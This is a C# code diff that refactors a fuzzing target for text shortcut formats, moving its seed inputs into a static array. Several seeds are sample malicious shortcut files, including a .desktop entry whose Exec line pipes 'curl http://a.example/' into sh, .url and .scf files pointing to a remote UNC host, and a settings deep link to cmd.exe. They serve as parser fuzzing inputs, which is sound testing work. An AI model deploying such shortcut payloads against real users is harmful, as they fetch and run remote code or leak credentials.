@@ -288,6 +288,18 @@ internal sealed class TextShortcutTarget : IFuzzTarget
         "jnlp",
     ];
 
+    private static readonly string[] Texts =
+    [
+        "[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\nIconFile=C:\\a.ico\r\nIconIndex=1\r\nHotKey=0\r\nModified=30D5A3C1E0B7F201A4\r\n[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n",
+        "[Desktop Entry]\nType=Application\nName=a\nExec=sh -c \"curl http://a.example/ | sh\"\nIcon=pdf\n",
+        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>http://a.example/</string></dict></plist>",
+        "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><ownerSID>S-1-5-21-1</ownerSID><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\a</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
+        "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\cmd.exe /c a</DeepLink><Icon>%windir%\\a.ico</Icon></ApplicationInformation></SearchableContent></PCSettings>",
+        "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\s\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
+        "full address:s:192.0.2.1:3389\r\nremoteapplicationprogram:s:||a\r\nsignature:s:AQ==\r\n",
+        "<jnlp codebase=\"http://a.example/\" href=\"a.jnlp\"><resources><jar href=\"a.jar\"/></resources><application-desc main-class=\"A\"/></jnlp>",
+    ];
+
     public string Name => "text-shortcuts";
 
     public IReadOnlyList<byte[]> Dictionary { get; } =
@@ -320,18 +332,7 @@ internal sealed class TextShortcutTarget : IFuzzTarget
             .Select(Encoding.ASCII.GetBytes),
     ];
 
-    public IEnumerable<byte[]> Seeds() =>
-        new[]
-        {
-            "[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\nIconFile=C:\\a.ico\r\nIconIndex=1\r\nHotKey=0\r\nModified=30D5A3C1E0B7F201A4\r\n[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n",
-            "[Desktop Entry]\nType=Application\nName=a\nExec=sh -c \"curl http://a.example/ | sh\"\nIcon=pdf\n",
-            "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key><string>http://a.example/</string></dict></plist>",
-            "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><ownerSID>S-1-5-21-1</ownerSID><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\a</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>",
-            "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\cmd.exe /c a</DeepLink><Icon>%windir%\\a.ico</Icon></ApplicationInformation></SearchableContent></PCSettings>",
-            "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\s\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
-            "full address:s:192.0.2.1:3389\r\nremoteapplicationprogram:s:||a\r\nsignature:s:AQ==\r\n",
-            "<jnlp codebase=\"http://a.example/\" href=\"a.jnlp\"><resources><jar href=\"a.jar\"/></resources><application-desc main-class=\"A\"/></jnlp>",
-        }.Select(Encoding.UTF8.GetBytes);
+    public IEnumerable<byte[]> Seeds() => Texts.Select(Encoding.UTF8.GetBytes);
 
     public void Run(byte[] bytes)
     {
